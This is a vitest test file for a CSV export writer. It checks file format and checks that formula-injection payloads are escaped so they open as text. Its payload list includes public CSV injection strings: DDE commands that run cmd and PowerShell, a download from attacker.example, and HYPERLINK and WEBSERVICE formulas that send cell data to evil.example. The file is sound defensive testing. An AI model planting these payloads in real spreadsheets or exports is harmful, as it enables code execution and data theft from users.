// The CSV writer every export uses: the file format (BOM, quotes, CRLF), and formula injection
// (OWASP "CSV Injection"): no text cell opens as a formula in a spreadsheet, while the numbers an
// export writes stay numbers.
import { describe, expect, it } from 'vitest';
import { csvRows, isSpreadsheetNumber, opensAsFormula } from '../test/csv';
import { CSV_BOM, csvField, csvLine, csvNumber, toCsv, toCsvSections } from './csv';

// The OWASP CSV Injection page, its testing guide and the usual public payload lists
// (PayloadsAllTheThings "CSV Injection"), plus the variants the old number guess let through.
const OWASP_PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=cmd|' /C notepad'!'A1'`,
  `=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0`,
  `=rundll32|'URL.dll,OpenURL calc.exe'!A`,
  `=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/SCT.sct scrobj.dll'!''`,
  `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
  `+cmd|' /C calc'!A0`,
  `-cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `-1+cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: haga clic aquí")`,
  `=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`,
  `=WEBSERVICE("http://evil.example/"&A1)`,
  `=IMPORTDATA("http://evil.example/x?d="&A2)`,
  `@SUM(1+1)`,
  `=1+1`,
  `+1+1`,
  `-1+1`,
  `=1+1;=cmd|' /C calc'!A0`,
  `=1+2";=1+2`,
  `=1+2'" ;,=1+2`,
  // Control characters first (OWASP: tab, carriage return, line feed; ASVS 1.2.10: NUL).
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `\0=1+1`,
  `\tAna`,
  `\r\n-1+cmd|' /C calc'!A0`,
  // Blanks before the formula, which spreadsheets skip.
  ` =1+1`,
  `   -1+cmd|' /C calc'!A0`,
  `\u00a0=HYPERLINK("http://evil.example")`,
  `\u3000+1+1`,
  `\u200b@SUM(1+1)`,
  `\ufeff=1+1`,
  `\u2028=1+1`,
  // Full-width and small forms, read as = + - @ in East Asian locales; the minus sign.
  `＝cmd|' /C calc'!A0`,
  `＋1+1`,
  `－1+cmd|' /C calc'!A0`,
  `＠SUM(1+1)`,
  `﹦1+1`,
  `﹢1+1`,
  `﹣1+1`,
  `﹫SUM(1+1)`,
  `−1+1`,
];

const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;

describe('csvField and formula injection', () => {
  it.each(OWASP_PAYLOADS)('writes %j as text behind an apostrophe, every character kept', (payload) => {
    const field = csvField(payload);
    expect(field).toBe(quoted(`'${payload}`));
    const [[cell]] = csvRows(`${CSV_BOM}${field}\r\n`);
    expect(cell).toBe(`'${payload}`);
    expect(opensAsFormula(cell)).toBe(false);
  });

  it("gives the OWASP page's own escaped outputs", () => {
    expect(csvField(`=1+2";=1+2`)).toBe(`"'=1+2"";=1+2"`);
    expect(csvField(`=1+2'" ;,=1+2`)).toBe(`"'=1+2'"" ;,=1+2"`);
  });

  it('escapes any value that is not a number: objects and dates are text too', () => {
    const sneaky = { toString: () => `-1+cmd|' /C calc'!A0` };
    expect(csvField(sneaky)).toBe(quoted(`'-1+cmd|' /C calc'!A0`));
    expect(csvField(new Date('2026-11-23T19:33:31.509Z'))).toBe('"2026-11-23T19:33:31.509Z"');
    // A year past 9999 is written "+010000-…": text that starts with a plus.
    expect(csvField(new Date('+010000-01-01T00:00:00Z'))).toBe(`"'+010000-01-01T00:00:00.000Z"`);
    expect(csvField(true)).toBe('"true"');
  });

  it('keeps ordinary text exactly as it was', () => {
    const ordinary: [unknown, string][] = [
      ['Ana "La Flaca" Zamora, hija', '"Ana ""La Flaca"" Zamora, hija"'],
      ['José Núñez Peña <jose@ejemplo.com>', '"José Núñez Peña <jose@ejemplo.com>"'],
      ['Envíos Ñandú', '"Envíos Ñandú"'],
      ['EXP0001', '"EXP0001"'],
      ['1Z999AA10123456784', '"1Z999AA10123456784"'],
      ['USA-00042', '"USA-00042"'],
      ['1.50', '"1.50"'],
      ['12/03/2026, 14:05', '"12/03/2026, 14:05"'],
      ['{"status":"=cmd|1"}', '"{""status"":""=cmd|1""}"'],
      ['a=b+c', '"a=b+c"'],
      [' Ana', '" Ana"'],
      ["'=1+1", `"'=1+1"`],
      ['', '""'],
      [null, '""'],
      [undefined, '""'],
    ];
    for (const [value, field] of ordinary) expect(csvField(value), JSON.stringify(value)).toBe(field);
  });

  it('writes the numbers an export gives as numbers, negative ones included', () => {
    const numbers: [unknown, string][] = [
      [0, '"0"'],
      [11, '"11"'],
      [-63.6, '"-63.6"'],
      [1234.5, '"1234.5"'],
      [-5n, '"-5"'],
      [9007199254740993n, '"9007199254740993"'],
      [csvNumber(1.5, 2), '"1.50"'],
      [csvNumber(0, 2), '"0.00"'],
      [csvNumber(-63.58, 1), '"-63.6"'],
      [csvNumber(-2, 1), '"-2.0"'],
      [csvNumber(295.5), '"295.5"'],
      [csvNumber(12n, 2), '"12.00"'],
      [csvNumber(-7n), '"-7"'],
    ];
    for (const [value, field] of numbers) {
      expect(csvField(value), String(value)).toBe(field);
      expect(isSpreadsheetNumber(field.slice(1, -1))).toBe(true);
    }
  });

  it('writes no word for a number that is not one', () => {
    for (const value of [NaN, Infinity, -Infinity, csvNumber(NaN, 2), csvNumber(-Infinity, 2)])
      expect(csvField(value)).toBe('""');
  });

  it('treats a number already turned into text as text', () => {
    expect(csvField('-1')).toBe(`"'-1"`);
    expect(csvField('+58 412 5550000')).toBe(`"'+58 412 5550000"`);
    expect(csvField('-63.6')).toBe(`"'-63.6"`);
    expect(csvField((-63.6).toFixed(1))).toBe(`"'-63.6"`);
  });
});

describe('the CSV file', () => {
  it('keeps its format: BOM, every field quoted, quotes doubled, CRLF; numbers stay sums a spreadsheet can do', () => {
    const file = toCsv(
      ['Cliente', 'Peso (kg)', 'Valor (USD)'],
      [
        ['Ana "La Flaca" Zamora, hija', csvNumber(1.25, 2), csvNumber(10, 2)],
        [`-1+cmd|' /C calc'!A0`, csvNumber(2.5, 2), -3],
      ],
    );
    expect(file).toBe(
      `${CSV_BOM}"Cliente","Peso (kg)","Valor (USD)"\r\n` +
        `"Ana ""La Flaca"" Zamora, hija","1.25","10.00"\r\n` +
        `"'-1+cmd|' /C calc'!A0","2.50","-3"\r\n`,
    );
    const [, ...rows] = csvRows(file);
    expect(rows.flat().some(opensAsFormula)).toBe(false);
    expect(rows.map((r) => Number(r[1])).reduce((a, b) => a + b, 0)).toBe(3.75);
    expect(rows.map((r) => Number(r[2])).reduce((a, b) => a + b, 0)).toBe(7);
  });

  it('writes lines for streamed exports and sections for reports the same way', () => {
    expect(csvLine(['=1+1', -1, csvNumber(0.5, 2), null])).toBe(`"'=1+1","-1","0.50",""\r\n`);
    const report = toCsvSections([
      { headers: ['Indicador', 'Variación (%)'], rows: [['Paquetes', csvNumber(-63.6, 1)]] },
      { headers: ['Cliente'], rows: [['@SUM(1+1)']] },
    ]);
    expect(report).toBe(
      `${CSV_BOM}"Indicador","Variación (%)"\r\n"Paquetes","-63.6"\r\n\r\n"Cliente"\r\n"'@SUM(1+1)"\r\n`,
    );
    expect(csvRows(report).flat().some(opensAsFormula)).toBe(false);
  });
});

describe('the test reader agrees with a spreadsheet', () => {
  // Guards the checks above: without the apostrophe, each payload would open as a formula.
  it.each(OWASP_PAYLOADS)('sees %j as a formula when written bare', (payload) => {
    expect(opensAsFormula(payload)).toBe(true);
  });
});
